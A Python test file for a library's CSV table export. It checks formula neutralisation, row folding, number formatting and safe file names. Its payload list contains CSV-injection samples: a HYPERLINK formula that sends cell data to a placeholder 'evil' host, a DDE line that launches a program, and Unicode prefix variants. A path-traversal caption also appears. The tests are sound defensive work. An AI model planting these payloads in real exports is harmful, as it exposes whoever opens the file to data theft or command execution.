"""Tables that a page carries as CSV: every row, and nothing that a spreadsheet would run."""

from __future__ import annotations

import base64
import csv
import io
from decimal import Decimal

import pytest
from bs4 import BeautifulSoup
from hypothesis import given
from hypothesis import strategies as st

from salesops_lib.fragments import CELLS_ON_PAGE, ROWS_SHOWN, Cell, Grid, grid_html
from salesops_lib.fragments.attachments import csv_bytes, csv_name, inert

FORMULAS = [
    '=HYPERLINK("http://evil/?x="&A1)', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", "\t=1",
    "\r=1", "\n=1", " =1", "\u00a0=1", "\u200b=1", "\ufeff=1", "\uff1d1",
    "\uff0b1", "\uff0d1", "\uff20x",
]  # fmt: skip


def table(*names: str, **columns) -> Grid:
    rows = tuple((Cell(name, "head"), Cell("1", **columns)) for name in names)
    return Grid("Deals", (("Deal", "text"), ("Amount, EUR", "number")), rows)


def read(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("text", FORMULAS)
def test_formulas_in_data_stay_text(text):
    assert inert(text) == "'" + text
    assert read(csv_bytes(table(text)))[1][0] == "'" + text


@pytest.mark.parametrize("text", ["Acme", "", "1", "a=b", "(x)", "\N{MINUS SIGN}6.1%", "İş-Bank"])
def test_other_text_is_left_as_it_is(text):
    assert inert(text) == text


@given(st.text(max_size=30))
def test_no_cell_begins_as_a_formula_and_no_text_is_lost(text):
    cell = inert(text)
    assert cell.removeprefix("'") == text.removeprefix("'")
    assert not cell.strip().startswith(("=", "+", "-", "@"))


@given(st.lists(st.text(st.characters(codec="utf-8"), min_size=1, max_size=9), max_size=5))
def test_any_names_come_back_from_the_file(names):
    back = [row[0] for row in read(csv_bytes(table(*names)))[1:]]
    assert [name.removeprefix("'") for name in back] == [name.removeprefix("'") for name in names]


def test_numbers_are_in_full_and_what_is_missing_stays_a_dash():
    rows = (
        (Cell("a", "head"), Cell("1,235", number=Decimal("1234.56"))),
        (Cell("b", "head"), Cell("−5", number=-5.0)),
        (Cell("c", "head"), Cell("–")),
        (Cell("d", "head"), Cell("0", number=0)),
    )
    grid = Grid("T", (("Name", "text"), ("Amount", "number")), rows)
    assert read(csv_bytes(grid)) == [
        ["Name", "Amount"], ["a", "1234.56"], ["b", "-5.0"], ["c", "–"], ["d", "0"],
    ]  # fmt: skip


def test_columns_of_drawings_are_left_out():
    rows = ((Cell("a", "head"), Cell("", drawing="<svg></svg>"), Cell("2")),)
    grid = Grid("T", (("Name", "text"), ("Drawn", "text"), ("N", "number")), rows)
    assert read(csv_bytes(grid)) == [["Name", "N"], ["a", "2"]]


@pytest.mark.parametrize("count", [1, ROWS_SHOWN, ROWS_SHOWN + 1, CELLS_ON_PAGE])
def test_long_tables_are_folded_and_attached_whole(count):
    page = BeautifulSoup(grid_html(table(*(f"Deal {n}" for n in range(count)))), "html5lib")
    shown = page.select("tbody tr")
    columns = len(page.select_one("thead tr").find_all("th"))
    assert len(shown) == min(count, CELLS_ON_PAGE // columns)
    assert len(page.select("details tbody tr")) == max(0, len(shown) - ROWS_SHOWN)
    link = page.select_one("a[download]")
    assert (link is not None) == (count > ROWS_SHOWN)
    if link is not None:
        kind, _, content = link["href"].partition(";base64,")
        assert kind == "data:text/csv;charset=utf-8"
        assert len(read(base64.b64decode(content))) == count + 1
        assert link.text == f"All {count} rows as CSV"


@pytest.mark.parametrize(
    ("caption", "name"),
    [("Reps of EMEA, 2026-Q3", "reps-of-emea-2026-q3.csv"), ("../../x", "x.csv"),
     ("العربية", "table.csv"), ("Türkiye", "turkiye.csv")],
)  # fmt: skip
def test_file_names_are_plain(caption, name):
    assert csv_name(Grid(caption, (), ())) == name
